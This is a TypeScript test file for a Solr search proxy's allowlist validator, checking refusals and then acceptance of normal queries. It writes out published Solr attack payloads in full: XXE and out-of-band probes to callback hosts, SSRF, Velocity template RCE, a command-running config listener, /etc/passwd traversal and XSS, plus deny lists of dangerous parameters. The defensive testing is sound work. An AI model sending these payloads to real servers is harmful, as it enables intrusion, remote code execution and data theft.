import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  buildAutocompleteParams,
  toDismaxWord,
} from '../../../../packages/search-core/src/autocomplete/autocomplete-params.js';
import { validateSearchConfig } from '../../../../packages/search-core/src/config/search-config.js';
import {
  buildDocsParams,
  buildFavouritesParams,
  buildFilters,
  buildSearchParams,
} from '../../../../packages/search-core/src/search/build-params.js';
import {
  buildTextQuery,
  buildValuesQuery,
  escapeIdListItem,
  quotePhrase,
} from '../../../../packages/search-core/src/solr/escape.js';
import { buildFieldFilters } from '../../../../packages/search-core/src/solr/filter-query.js';
import {
  EMPTY_QUERY,
  type SearchQuery,
} from '../../../../packages/search-core/src/state/search-query.js';
import { PATH_PARAM, validateSearchRequest } from './allowlist.js';

type Pair = [string, string];

// ─── (1) solr-proxy-attacks.md: every row, refused, naming the parameter ────────────────────────

/** Published payloads with a raw `&` inside a value: a query string would split them, so pairs. */
const XXE_UPLOAD = `{!xmlparser v='<!DOCTYPE a SYSTEM "http://127.0.0.1:/solr/gettingstarted/upload?stream.body={"xx":"yy"}&commit=true"'><a></a>'}`;
const XXE_PROBE = `{!type=xmlparser v="<!DOCTYPE a SYSTEM 'http://callback_server/solr'><a></a>"}`;
const XSS_FL = `price,name:[value v='<a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>'],name:[xml]`;
const P = PATH_PARAM;

/**
 * [row and what it tries, status, parameter named, request, path (default `select`)]. A request
 * string is the query string as published, percent-encoding and all, decoded as the server
 * decodes a form body; pairs are for payloads whose values hold a raw `&`.
 */
type Row = readonly [string, 400 | 403, string, string | Pair[], string?];
const ROWS: readonly Row[] = [
  [
    '1.1 qt=/update + stream.body',
    403,
    'qt',
    'qt=/update&stream.body=<d><delete><query>*:*</query></delete><commit/></d>',
  ],
  ['1.2 shards.qt=/update', 403, 'shards.qt', 'q=*:*&shards.qt=/update'],
  [
    '1.3 stream.body delete on /update',
    403,
    P,
    'stream.body=%3Cdelete%3E%3Cquery%3E*%3A*%3C%2Fquery%3E%3C%2Fdelete%3E',
    'update',
  ],
  ['1.3 stream.body commit on /update', 403, P, 'stream.body=%3Ccommit/%3E', 'update'],
  ['1.3 stream.body on select', 403, 'stream.body', 'q=*:*&stream.body=%3Ccommit/%3E'],
  [
    '1.4 stream.url remote streaming (SSRF)',
    403,
    'stream.url',
    'q=*:*&indent=on&wt=ruby&rows=2&stream.url=http%3A%2F%2Fexample.com%3A8080%2Fsolr%2Fupdate%3Fcommit%3Dtrue',
  ],
  ['1.5 stream.file', 403, 'stream.file', 'stream.file=/etc/passwd'],
  ['1.5 stream.contentType', 403, 'stream.contentType', 'stream.contentType=text/xml'],
  ['1.5 bare stream', 403, 'stream', 'stream=x'],
  ['1.5 STREAM.URL in capitals', 403, 'STREAM.URL', 'STREAM.URL=http://evil/'],
  ['1.6 admin', 403, P, '', 'admin'],
  ['1.6 /admin/cores', 403, P, 'action=STATUS', '/admin/cores'],
  ['1.6 /solr/admin', 403, P, '', '/solr/admin'],
  ['1.6 update', 403, P, '', 'update'],
  ['1.6 <core>/config', 403, P, '', 'db/config'],
  ['1.6 <core>/dataimport', 403, P, '', 'db/dataimport'],
  ['1.6 <core>/replication', 403, P, '', 'db/replication'],
  ['1.6 traversal select/../update', 403, P, '', 'select/../update'],
  ['1.6 select/ with a trailing slash', 403, P, '', 'select/'],
  ['1.6 SELECT in capitals', 403, P, '', 'SELECT'],
  ['1.6 a query string in the path', 403, P, '', 'select?qt=/update'],
  ['1.6 other read handlers: export', 403, P, '', 'export'],
  ['1.6 other read handlers: get', 403, P, 'id=1', 'get'],
  ['1.6 other read handlers: terms', 403, P, '', 'terms'],
  ['1.7 any method: a POSTed form body is checked the same', 403, 'qt', 'q=balloon&qt=%2Fupdate'],
  [
    '2.1 shards to the config API + stream.body',
    403,
    'shards',
    'q=Apple&shards=http://127.0.0.1:8983/solr/collection/config%23&stream.body={"set-property":{"xxx":"yyy"}}',
  ],
  [
    '2.2 shards + qt to read another collection',
    403,
    'shards',
    'q=orange&shards=http://127.0.0.1:8983/solr/atom&qt=/select?fl=id,name:author&wt=json',
  ],
  [
    '2.3 shards + qt + stream.body to write another collection',
    403,
    'shards',
    'q=Apple&shards=http://127.0.0.1:8983/solr/atom&qt=/update?stream.body=[%257b%2522id%2522:%25221338%2522,%2522author%2522:%2522orange%2522%257d]%26wt=json&commit=true&wt=json',
  ],
  [
    '2.4 isShard with shards at /config#',
    403,
    'shards',
    'q=xxx&shards=localhost:8983/solr/db/config%23&stream.body={"add-listener":{"event":"postCommit","name":"newlistener","class":"solr.RunExecutableListener","exe":"nslookup","dir":"/usr/bin/","args":["solrx.x.artsploit.com"]}}&isShard=true',
  ],
  ['2.4 isShard alone', 403, 'isShard', 'q=x&isShard=true'],
  ['2.4 distrib', 403, 'distrib', 'distrib=false'],
  [
    '2.5 blind probe on an unknown path',
    403,
    P,
    'q=aaa%26shards=http://callback_server/solr',
    'xxx',
  ],
  [
    '2.5 blind probe: &shards= smuggled inside q',
    400,
    'q',
    'q=aaa%26shards=http://callback_server/solr',
  ],
  [
    '2.5 blind probe: shards as a parameter',
    403,
    'shards',
    'q=aaa&shards=http://callback_server/solr',
  ],
  ['2.7 streaming expressions handler', 403, P, 'expr=search(c)', 'stream'],
  ['2.7 expr on select', 403, 'expr', 'expr=search(collection1,q="*:*",fl="id",sort="id asc")'],
  ['2.7 collection', 403, 'collection', 'collection=other'],
  ['3.1 {!xmlparser} XXE (CVE-2017-12629)', 400, 'q', [['q', XXE_UPLOAD]]],
  [
    '3.2 {!xmlparser} RCE chain',
    400,
    'q',
    `q={!xmlparser+v%3d'<!DOCTYPE+a+SYSTEM+"http%3a//localhost%3a8983/solr/db/select%3fq%3dxxx%26qt%3d/solr/db/config%3fstream.body%3d{"add-listener":{}}%26shards%3dlocalhost%3a8983/"><a></a>'}`,
  ],
  [
    '3.2 {!xmlparser} update with commit',
    400,
    'q',
    `q={!xmlparser+v='<!DOCTYPE+a+SYSTEM+"http://localhost:8983/solr/db/update?commit=true"><a></a>'}`,
  ],
  ['3.3 {!type=xmlparser} OOB probe', 400, 'q', [['q', XXE_PROBE]]],
  [
    '3.4 {!join fromIndex} in q',
    400,
    'q',
    'q={!join from=id fromIndex=anotherCollection to=other_id}Apple',
  ],
  ['3.4 {!join} in fq', 400, 'fq', 'fq={!join from=id fromIndex=other to=id}Apple'],
  ['3.5 {!df=summary} in fq', 400, 'fq', 'fq={!df=summary}solr rocks'],
  ['3.5 {!tag} then another block', 400, 'fq', 'fq={!tag=a}{!join from=a to=b}x'],
  ['3.5 {!tag} with v=$x', 400, 'fq', 'fq={!tag=a v=$x}'],
  ['3.5 {!dismax} with local params', 400, 'q', 'q={!dismax qf=$x}a'],
  ['3.5 {!lucene v=$qq}', 400, 'q', 'q={!lucene v=$qq}&qq=*:*'],
  ['3.5 local params after the start', 400, 'q', 'q=foo AND {!join from=a to=b}bar'],
  ['3.5 _query_ nested query', 400, 'q', 'q=_query_:"{!dismax}x"'],
  ['3.5 _val_ function query', 400, 'fq', 'fq=_val_:"recip(rord(x),1,2,3)"'],
  ['3.5 $param dereference', 400, 'q', 'q=$qq'],
  ['3.5 {!key} on facet.field', 400, 'facet.field', 'facet.field={!key=x ex=y}ss_type'],
  ['3.5 {!terms} on facet.range', 400, 'facet.range', 'facet.range={!ex=a}{!terms=1}f'],
  ['3.5 {!frange} on facet.query', 400, 'facet.query', 'facet.query={!frange l=0 u=5}price'],
  ['3.5 {!…} in facet.prefix', 400, 'facet.prefix', 'facet.prefix={!xmlparser'],
  ['3.5 {!…} in ids', 400, 'ids', 'ids=a,{!join}'],
  ['3.5 {!…} in a per-field prefix', 400, 'f.ss_type.facet.prefix', 'f.ss_type.facet.prefix=a{!b}'],
  ['3.8 {!…} inside a quoted phrase', 400, 'q', 'q="{!join from=id to=id}x"'],
  // Solr unescapes a field name, and the phrase of a nested query, before reading them.
  [
    '3.5 escaped _query_ with {\\!join}',
    400,
    'q',
    [['q', String.raw`\_query\_:"{\!join from=id fromIndex=other to=id}x"`]],
  ],
  [
    '3.5 \\u-escaped _query_ and !',
    400,
    'q',
    [['q', String.raw`\u005fquery_:"{\u0021join from=id fromIndex=other to=id}x"`]],
  ],
  [
    '3.5 _query_ unescaped, {\\!…} escaped',
    400,
    'fq',
    [['fq', String.raw`{!tag=a}_query_:"{\!join from=id to=id}x"`]],
  ],
  [
    '3.5 escaped _val_ function in an edismax q',
    400,
    'q',
    [['q', String.raw`{!edismax}a OR \_val\_:"sum(1,2)"`]],
  ],
  [
    '3.5 _val_ escaped mid-name in fq',
    400,
    'fq',
    [['fq', String.raw`_v\al_:"recip(rord(x),1,2,3)"`]],
  ],
  [
    '4.1 wt=velocity + v.template.custom (CVE-2019-17558)',
    403,
    'v.template',
    'q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()',
  ],
  ['4.1 enabling velocity through the Config API', 403, P, '', 'test/config'],
  ['4.1 wt=velocity alone', 400, 'wt', 'q=1&wt=velocity'],
  [
    '4.2 wt=xslt&tr= traversal (CVE-2013-6397)',
    403,
    'tr',
    'q=31337&wt=xslt&tr=../../../../../../../../../../../../../../../../../usr/share/ant/etc/ant-update.xsl',
  ],
  ['4.2 wt=xslt alone', 400, 'wt', 'q=31337&wt=xslt'],
  ['4.3 Config API add-listener (CVE-2017-12629)', 403, P, '', 'db/config'],
  ['4.4 Config API jmx.serviceUrl (CVE-2019-0192)', 403, P, '', 'config'],
  [
    '4.5 DataImportHandler dataConfig (CVE-2019-0193)',
    403,
    P,
    'command=full-import&dataConfig=%3CdataConfig%3E%3Cscript%3E%3C%2Fscript%3E%3C%2FdataConfig%3E',
    'db/dataimport',
  ],
  [
    '4.5 dataConfig smuggled to select',
    403,
    'command',
    'command=full-import&dataConfig=%3CdataConfig%2F%3E',
  ],
  [
    '4.6 replication filecontent (CVE-2017-3163)',
    403,
    P,
    'command=filecontent&file=../../../../../../../../../../../../../etc/passwd&wt=filestream&generation=1',
    'db/replication',
  ],
  [
    '4.6 replication file read smuggled to select',
    403,
    'command',
    'command=filecontent&file=../../../../etc/passwd&wt=filestream&generation=1',
  ],
  [
    '4.6 replication fetchindex SSRF smuggled to select',
    403,
    'command',
    'command=fetchindex&masterUrl=http://callback/xxxx&wt=json&httpBasicAuthUser=aaa&httpBasicAuthPassword=bbb',
  ],
  ['4.7 XXE in the update handler', 403, P, '', '/update'],
  [
    '5.1 [subquery] transformer',
    400,
    'fl',
    'q=*:*&fl=*,score,similar:[subquery]&similar.q={!terms f=id v=$row.id}',
  ],
  ['5.1 the subquery parameter alone', 400, 'similar.q', 'similar.q=x'],
  [
    '5.2 [value]+[xml] as published',
    400,
    'indent',
    `indent=on&q=*&wt=xml&fl=price,name:[value+v='<a:script+xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>'],name:[xml]`,
  ],
  [
    '5.2 [value]+[xml] in fl',
    400,
    'fl',
    [
      ['q', '*:*'],
      ['fl', XSS_FL],
    ],
  ],
  ['5.2 fl alias', 400, 'fl', 'fl=id,name:author'],
  ['5.2 fl function', 400, 'fl', 'fl=id,sum(a,b)'],
  ['5.2 fl glob', 400, 'fl', 'fl=ss_*'],
  ['6.1 rows=201', 400, 'rows', 'rows=201'],
  ['6.1 rows=101 (above the default 100)', 400, 'rows', 'rows=101'],
  ['6.2 start=10001', 400, 'start', 'start=10001'],
  ['6.2 start=999000&rows=1000', 400, 'start', 'start=999000&rows=1000'],
  ['6.3 rows=foobar', 400, 'rows', 'q=fhqwhagads&rows=foobar'],
  ['6.3 start=foobar', 400, 'start', 'start=foobar'],
  ['6.3 rows=1e2', 400, 'rows', 'rows=1e2'],
  ['6.3 rows=-1', 400, 'rows', 'rows=-1'],
  ['6.3 rows with a space', 400, 'rows', 'rows=+5'],
  ['6.6 facet.limit=-1', 400, 'facet.limit', 'facet.limit=-1'],
  [
    '6.6 f.language_facet.facet.limit=-1',
    400,
    'f.language_facet.facet.limit',
    'f.language_facet.facet.limit=-1',
  ],
  ['6.6 facet.limit=201', 400, 'facet.limit', 'facet.limit=201'],
  ['6.6 facet.mincount=1001', 400, 'facet.mincount', 'facet.mincount=1001'],
  ['6.6 facet.pivot', 400, 'facet.pivot', 'facet.pivot=ss_type,sm_amenities'],
  ['6.6 json.facet', 403, 'json.facet', 'json.facet={x:{type:terms,field:id,limit:-1}}'],
  ['6.6 facet.method', 400, 'facet.method', 'facet.method=enum'],
  [
    '6.6 a range facet with a billion buckets',
    400,
    'f.p.facet.range.gap',
    'f.p.facet.range.start=0&f.p.facet.range.end=1000000000&f.p.facet.range.gap=1',
  ],
  [
    '6.6 a date range by the minute over ten years',
    400,
    'f.d.facet.range.gap',
    'f.d.facet.range.start=NOW-10YEARS&f.d.facet.range.end=NOW&f.d.facet.range.gap=%2B1MINUTE',
  ],
  ['6.6 a range gap without start and end', 400, 'f.p.facet.range.gap', 'f.p.facet.range.gap=1'],
  ['6.7 leading wildcard', 400, 'q', 'q=*foo'],
  ['6.7 leading ? wildcard in fq', 400, 'fq', 'fq=title:?oo'],
  ['6.7 regular expression', 400, 'q', 'q=name:/joh?n(ath[oa]n)/'],
  ['6.7 deep boolean nesting', 400, 'q', 'q=(((((((((a)))))))))'],
  ['6.7 huge slop', 400, 'q', 'q="a b"~100000'],
  ['6.7 sort on a function', 400, 'sort', 'sort=div(popularity,price) desc'],
  ['6.7 sort on geodist()', 400, 'sort', 'sort=geodist() asc'],
  ['6.7 five sort clauses', 400, 'sort', 'sort=a asc,b asc,c asc,d asc,e asc'],
  ['6.7 {!frange} function filter', 400, 'fq', 'fq={!frange l=0 u=5}log(x)'],
  ['6.7 a boost function other than recency', 400, 'boost', 'boost=sum(1,div(x,y))'],
  ['6.7 defType=func', 400, 'defType', 'defType=func'],
  ['6.7 defType=xmlparser', 400, 'defType', 'defType=xmlparser'],
  ['6.8 debugQuery=true', 403, 'debugQuery', 'q=*:*&debugQuery=true'],
  ['6.8 debug=timing', 403, 'debug', 'debug=timing'],
  [
    '6.8 debug.explain.structured',
    403,
    'debug.explain.structured',
    'debug.explain.structured=true',
  ],
  ['7.1 json.wrf=? (JSONP)', 403, 'json.wrf', 'q=*:*&json.wrf=?'],
  ['7.2 json.wrf reflected verbatim', 403, 'json.wrf', 'json.wrf=alert(document.cookie)//'],
  ['7.3 a non-JSON writer', 400, 'wt', 'wt=xml'],
  ['8 SSP: GET admin', 403, P, '', 'admin'],
  ['8 SSP: GET update', 403, P, '', 'update'],
  ['8 SSP: qt=/update', 403, 'qt', 'qt=/update'],
  ['8 SSP: stream.url=EVIL', 403, 'stream.url', 'stream.url=EVIL'],
  ['8 SSP: stream.body=EVIL', 403, 'stream.body', 'stream.body=EVIL'],
  ['8 TSP: qt=%2Fupdate', 403, 'qt', 'q=fhqwhagads&qt=%2Fupdate'],
  ['8 TSP: stream.url=EVERYBODYTOTHELIMIT!', 403, 'stream.url', 'stream.url=EVERYBODYTOTHELIMIT!'],
  ['8 TSP: rows=199 (our bound is 100)', 400, 'rows', 'rows=199'],
  ['8 TSP: rows=foobar', 400, 'rows', 'rows=foobar'],
];

/** The writers Solr lists besides json (4.8). */
const WRITERS =
  'xml xslt velocity php phps ruby python csv geojson javabin smile cbor xlsx JSON'.split(' ');

/** Parameters refused whatever their value, and the status each gets. */
const DANGEROUS: ReadonlyArray<readonly [string, 400 | 403]> = [
  ['qt', 403],
  ['stream.body', 403],
  ['stream.url', 403],
  ['shards', 403],
  ['shards.qt', 403],
  ['shards.info', 403],
  ['json', 403],
  ['json.wrf', 403],
  ['json.facet', 403],
  ['json.query', 403],
  ['v.template', 403],
  ['v.template.custom', 403],
  ['tr', 403],
  ['debug', 403],
  ['debugQuery', 403],
  ['echoHandler', 403],
  ['echoParams', 403],
  ['isShard', 403],
  ['distrib', 403],
  ['collection', 403],
  ['expr', 403],
  ['commit', 403],
  ['hl.fl', 400],
  ['hl', 400],
  ['mlt.fl', 400],
  ['mlt', 400],
  ['spellcheck', 400],
  ['spellcheck.q', 400],
  ['timeAllowed', 400],
  ['cursorMark', 400],
  ['rq', 400],
  ['q.alt', 400],
  ['df', 400],
  ['bq', 400],
  ['bf', 400],
  ['uf', 400],
  ['pf', 400],
  ['facet.range.start', 400],
  ['f.ss_type.facet.method', 400],
  ['f.ss_type.qf', 400],
  ['index_id', 400],
  ['indent', 400],
  ['__proto__', 400],
  ['constructor', 400],
  ['JSON.NL', 400],
  ['Q', 400],
];

describe('solr-proxy-attacks.md: every attack is refused', () => {
  for (const [title, status, param, request, path = 'select'] of ROWS) {
    it(title, () => {
      const params = typeof request === 'string' ? [...new URLSearchParams(request)] : request;
      const result = validateSearchRequest(path, params);
      expect(result).toMatchObject({ ok: false, status, param });
      if (!result.ok) expect(result.message.length).toBeGreaterThan(10);
    });
  }

  for (const wt of WRITERS) {
    it(`4.8 wt=${wt} is refused`, () => {
      expect(validateSearchRequest('', [['wt', wt]])).toMatchObject({ ok: false, param: 'wt' });
    });
  }

  it('6.1 rows above options.maxRows', () => {
    expect(validateSearchRequest('', [['rows', '21']], { maxRows: 20 })).toMatchObject({
      ok: false,
      status: 400,
      param: 'rows',
    });
  });

  it('2.6 & inside a value stays inside it: the output is pairs for URLSearchParams', () => {
    const result = validateSearchRequest('', [['q', 'Apple&xxx=yyy']]);
    expect(result).toEqual({
      ok: true,
      params: [
        ['q', 'Apple&xxx=yyy'],
        ['wt', 'json'],
      ],
    });
    const upstream = new URLSearchParams(result.ok ? result.params : []);
    expect([...upstream.keys()]).toEqual(['q', 'wt']);
    expect(upstream.get('q')).toBe('Apple&xxx=yyy');
  });

  it('3.8 escaped curly brackets are data and pass; raw {! is refused in every text parameter', () => {
    expect(validateSearchRequest('', [['q', buildTextQuery('{!join from=id}x')]]).ok).toBe(true);
    for (const name of ['q', 'fq', 'facet.prefix', 'ids', 'facet.query', 'f.a.facet.prefix']) {
      expect(validateSearchRequest('', [[name, 'a{!x}']])).toMatchObject({
        ok: false,
        param: name,
      });
    }
  });

  it('6.1–6.3 the bounds themselves are accepted', () => {
    expect(
      validateSearchRequest('', [
        ['rows', '100'],
        ['start', '10000'],
      ]).ok,
    ).toBe(true);
    expect(validateSearchRequest('', [['rows', '20']], { maxRows: 20 }).ok).toBe(true);
    expect(
      validateSearchRequest('', [
        ['start', '1001'],
        ['rows', '0'],
      ]).ok,
    ).toBe(true);
  });

  it('7.3 the upstream is always asked for JSON: wt=json is added when missing', () => {
    const result = validateSearchRequest('select', [['q', 'balloon']]);
    expect(result).toEqual({
      ok: true,
      params: [
        ['q', 'balloon'],
        ['wt', 'json'],
      ],
    });
  });

  it('7.4 U+2028/U+2029 in text are data: passed on unchanged (escaping is the writer’s job)', () => {
    const result = validateSearchRequest('', [['q', 'a\u2028b\u2029c']]);
    expect(result.ok && new URLSearchParams(result.params).get('q')).toBe('a\u2028b\u2029c');
  });

  it('8 SSP/TSP baseline: select?q=balloon and q=2 … q=11 pass', () => {
    for (const q of ['balloon', ...Array.from({ length: 10 }, (_, i) => String(i + 2))]) {
      expect(validateSearchRequest('select', [['q', q]]).ok).toBe(true);
    }
  });

  for (const [name, status] of DANGEROUS) {
    it(`refuses the parameter ${name} with ${status}`, () => {
      expect(validateSearchRequest('', [[name, 'x']])).toMatchObject({
        ok: false,
        status,
        param: name,
      });
    });
  }

  it('refuses a single-valued parameter given twice', () => {
    expect(
      validateSearchRequest('', [
        ['rows', '1'],
        ['rows', '2'],
      ]),
    ).toMatchObject({ ok: false, param: 'rows' });
  });

  it('bounds the request: 200 parameters, 4,000 per value, 20,000 in all', () => {
    const many: Pair[] = Array.from({ length: 201 }, () => ['fq', 'a:b']);
    expect(validateSearchRequest('', many)).toMatchObject({ ok: false, status: 400, param: 'fq' });
    expect(validateSearchRequest('', many.slice(0, 200)).ok).toBe(true);
    expect(validateSearchRequest('', [['q', 'a'.repeat(4001)]])).toMatchObject({
      ok: false,
      param: 'q',
    });
    const long: Pair[] = Array.from({ length: 6 }, () => ['fq', `a:${'b'.repeat(3900)}`]);
    expect(validateSearchRequest('', long)).toMatchObject({ ok: false, status: 400, param: 'fq' });
  });

  it('refuses fields outside options.fields in fl, sort, facet.* and f.<field>.*', () => {
    const options = { fields: new Set(['id', 'ss_type']) };
    const cases: Pair[] = [
      ['fl', 'id,secret'],
      ['sort', 'secret asc'],
      ['facet.field', '{!ex=ss_type}secret'],
      ['facet.range', 'secret'],
      ['facet.query', 'secret:[0 TO 1]'],
      ['f.secret.facet.limit', '5'],
    ];
    for (const pair of cases) {
      expect(validateSearchRequest('', [pair], options)).toMatchObject({
        ok: false,
        status: 403,
        param: pair[0],
      });
    }
    const allowed: Pair[] = [
      ['fl', 'id,score,*'],
      ['sort', 'score desc,id asc'],
      ['facet.field', 'ss_type'],
    ];
    expect(validateSearchRequest('', allowed, options).ok).toBe(true);
  });

  it('refuses control characters and broken Unicode', () => {
    expect(validateSearchRequest('', [['q', 'a\u0000b']])).toMatchObject({ ok: false, param: 'q' });
    expect(validateSearchRequest('', [['q', 'a\uD800']])).toMatchObject({ ok: false, param: 'q' });
  });
});

// ─── (2) every request shape search-core builds is accepted, param for param ────────────────────

const warn = () => {};
const RECENCY = 'recip(ms(NOW,ds_changed),3.16e-11,1,1)';
const MAIN = validateSearchConfig(
  {
    solr: {
      url: '/search/proxy',
      index: 'default_index',
      bundles: ['listing', 'holiday_home'],
      entity_type: 'node',
      max_rows: 24,
      default_boost: RECENCY,
      params: {
        qf: 'tm_title^2 tm_body',
        mm: '2<75%',
        'q.op': 'AND',
        fl: 'id,ss_title,fts_price',
        'facet.query': ['fts_price:[0 TO 100]', '{!ex=ss_type}ss_type:"Villa"'],
      },
    },
    default_sort: 'fts_price asc',
    facets: [
      { field: 'ss_type', label: 'Type', operator: 'OR', missing: true },
      { name: 'amenities', field: 'sm_amenities', label: 'Amenities', hardLimit: 100, mincount: 0 },
      {
        field: 'fts_price',
        label: 'Price',
        display: 'range',
        range: { start: 0, end: 1000, gap: 50 },
      },
      { field: 'is_bedrooms', label: 'Bedrooms', operator: 'or', missing: true },
    ],
  },
  { name: 'main', warn },
);
const LIGHT = validateSearchConfig(
  {
    solr: {
      url: '/search/proxy',
      max_rows: 12,
      return_full_docs: false,
      default_q: '*:*',
      params: [
        ['defType', 'dismax'],
        ['qf', 'tm_title'],
        ['fq', 'bs_status:true'],
      ],
    },
    facets: [{ field: 'ss_town', label: 'Town', missing: true, hardLimit: 200 }],
  },
  { name: 'light', warn },
);
/** Every field the two configs name, in fl, sort, qf, boost, facets and the fq they build. */
const FIELDS = new Set(
  'id index_id ss_search_api_datasource ss_title fts_price ss_type sm_amenities is_bedrooms ss_town tm_title tm_body tm_title_suggest bs_status ds_changed ss_vrfusion_site_property_code'.split(
    ' ',
  ),
);

const QUERIES: Record<string, SearchQuery> = {
  'no query': EMPTY_QUERY,
  'text with special characters': {
    ...EMPTY_QUERY,
    q: {
      type: 'text',
      text: '"sea view" C++ (cheap) -pets a/b 100% $5 don\'t *wild? ~fuzzy AND OR field:value \\back {curly} [x TO y] émoji 🏖️',
    },
    start: 24,
  },
  'a fixed id list': {
    ...EMPTY_QUERY,
    q: { type: 'values', field: 'id', values: ['s1-idx-1', 'we"ird\\id', 'a,b'] },
  },
  'OR and AND selections, a range, missing, sort and rows': {
    ...EMPTY_QUERY,
    q: { type: 'text', text: 'villa' },
    terms: { ss_type: ['Villa', 'B&B "Deluxe"'], sm_amenities: ['Pool', 'Wi-Fi (free)'] },
    ranges: {
      fts_price: { from: '100', to: '*', includeFrom: true, includeTo: false },
      ds_changed: {
        from: 'NOW-1YEAR',
        to: '2026-01-01T00:00:00Z',
        includeFrom: true,
        includeTo: true,
      },
    },
    missing: ['is_bedrooms', 'sm_amenities'],
    sort: 'fts_price desc',
    start: 9990,
    rows: 48,
  },
};

function expectAccepted(params: readonly (readonly [string, string])[], path = '') {
  for (const options of [undefined, { fields: FIELDS }]) {
    const result = validateSearchRequest(path, params, options);
    expect(result).toMatchObject({ ok: true });
    if (!result.ok) return;
    const key = (pairs: readonly (readonly [string, string])[]) =>
      pairs.map((pair) => JSON.stringify(pair)).sort();
    // With a field list, a request without fl gets the list as its fl; all else is kept.
    const sent =
      params.some(([name]) => name === 'fl') || !options
        ? params
        : [...params, ['fl', [...FIELDS].join(',')] as const];
    expect(key(result.params)).toEqual(key(sent));
    expect(result.params.filter(([name]) => name === 'wt')).toEqual([['wt', 'json']]);
  }
}

describe('search-core request shapes are accepted with every parameter kept', () => {
  for (const [config, configName] of [
    [MAIN, 'full documents, OR facets, ranges, missing, boost'],
    [LIGHT, 'ids and docs together, dismax, configured fq'],
  ] as const) {
    for (const [title, query] of Object.entries(QUERIES)) {
      it(`search (${configName}): ${title}`, () => {
        expectAccepted(buildSearchParams(config, query));
      });
    }
    it(`full documents (${configName})`, () => {
      expectAccepted(
        buildDocsParams(config, ['s1-idx-1', 'odd,id', 'back\\slash', 'ünïcödé 🏖️', '{curly}']),
        'select',
      );
      const page = Array.from({ length: 100 }, (_, i) => `s1-idx-${i}`);
      expectAccepted(buildDocsParams(config, page), 'select');
    });
    it(`favourites counter (${configName})`, () => {
      const params = buildFavouritesParams(
        config,
        'ss_vrfusion_site_property_code',
        ['P1', 'P"2', 'P\\3', 'P 4'],
        10,
      );
      expect(params).not.toBeNull();
      expectAccepted(params ?? [], 'select');
    });
    it(`autocomplete (${configName})`, () => {
      const filters = buildFilters(
        config,
        QUERIES['OR and AND selections, a range, missing, sort and rows'] ?? EMPTY_QUERY,
      );
      for (const text of ['vi', 'Sea "big" -house c++ a/b (x) {y} vi', '+++ --- Wi', 'ÉTÉ plage']) {
        const params = buildAutocompleteParams({ field: 'tm_title_suggest', text, filters });
        expect(params).not.toBeNull();
        expectAccepted(params ?? []);
      }
    });
  }

  it('re-serialises sort, fl and qf canonically', () => {
    const result = validateSearchRequest('', [
      ['sort', 'fts_price desc, ss_title  asc'],
      ['fl', ' id , score '],
    ]);
    expect(result).toEqual({
      ok: true,
      params: [
        ['fl', 'id,score'],
        ['sort', 'fts_price desc,ss_title asc'],
        ['wt', 'json'],
      ],
    });
  });

  it('puts parameters in a stable order whatever order they came in', () => {
    const params = buildSearchParams(
      MAIN,
      QUERIES['OR and AND selections, a range, missing, sort and rows'] ?? EMPTY_QUERY,
    );
    const forward = validateSearchRequest('', params);
    const backward = validateSearchRequest('', [...params].reverse());
    expect(forward.ok && backward.ok).toBe(true);
    const names = (result: typeof forward) =>
      result.ok ? result.params.map(([name]) => name) : [];
    expect(names(backward)).toEqual(names(forward));
    expect(names(forward)[0]).toBe('q');
    expect(names(forward).at(-1)).toBe('wt');
  });
});

// ─── (3) fuzz: never throws; accepted output is allowlisted, safe and idempotent ───────────────

const SINGLE =
  'q defType q.op mm ids fl sort start rows facet facet.mincount facet.limit facet.prefix facet.missing facet.sort json.nl wt'.split(
    ' ',
  );
const REPEATABLE = 'qf boost fq facet.field facet.range facet.query'.split(' ');
const PER_FIELD =
  /^f\.[A-Za-z_][A-Za-z0-9_]*\.facet\.(?:limit|mincount|missing|sort|prefix|range\.(?:start|end|gap|other))$/;
const FORBIDDEN_NAME =
  /^(?:qt|stream.*|shards.*|isShard|distrib|collection|json(?!\.nl$).*|v(?:\..*)?|tr|debug.*|echoHandler|echoParams|expr)$/i;
/** The only `{!` a value may carry, per parameter: at the very start, in exactly these forms. */
const LEADING: Record<string, RegExp> = {
  q: /^\{!(?:dismax|edismax|lucene)\}/,
  fq: /^\{!(?:tag=[\w,]+|dismax|edismax|lucene)\}/,
  'facet.field': /^\{!ex=[\w,]+\}/,
  'facet.range': /^\{!ex=[\w,]+\}/,
  'facet.query': /^\{!ex=[\w,]+\}/,
};

const FUZZ_FIELDS = ['id', 'ss_type', 'fts_price', 'score', '_query_', 'constructor', 'a1', 'x'];
const PAYLOADS = [
  XXE_UPLOAD,
  XXE_PROBE,
  '{!join from=id to=id}x',
  '{!tag=ss_type}ss_type:"x"',
  '{!tag=a}{!join}x',
  '{!dismax}sea view',
  '{!dismax v=$x}',
  '{!ex=ss_type}ss_type',
  '{!ex=a}{!key=b}c',
  '_query_:"{!dismax}x"',
  '_val_:"x"',
  '$qq',
  'a $_x',
  '*:*',
  '-1',
  '0',
  '100',
  '101',
  '10001',
  'true',
  'on',
  'json',
  'map',
  'xslt',
  'a asc',
  'score desc,b asc',
  'div(a,b) asc',
  '*,score,x:[subquery]',
  XSS_FL,
  'id,ss_title',
  RECENCY,
  'recip(ms(NOW/DAY,ds_changed),1e999,1,1)',
  'NOW-1YEAR',
  'NOW/DAY+1DAY',
  '+1DAY',
  '2024-01-01T00:00:00Z',
  '0.0000001',
  '1e9',
  'a\\,b,c',
  'a\\b',
  'Apple&shards=http://evil/solr',
  '/.*/',
  '*foo',
  '(((((((((a)))))))))',
  '"a b"~11',
  'ss_type:"Villa"',
  'fts_price:[0 TO 100]',
  'fts_price:{* TO NOW}',
  '\u2028',
  '\u0000',
  '\uD800',
  '\\',
  '"unclosed',
  'x'.repeat(4001),
];

const field = fc.constantFrom(...FUZZ_FIELDS);
const text = fc.string({
  maxLength: 24,
  unit: fc.constantFrom(...Array.from('ab {}!$*?/\\":()[]~^&|+-,_=é🏖')),
});
const anyValue = fc.oneof(
  fc.constantFrom(...PAYLOADS),
  fc.string({ maxLength: 30 }),
  text,
  fc.integer({ min: -5, max: 12_000 }).map(String),
  fc.tuple(fc.constantFrom(...PAYLOADS), fc.constantFrom(...PAYLOADS)).map(([a, b]) => a + b),
);
const fieldFilter = fc
  .record({
    field,
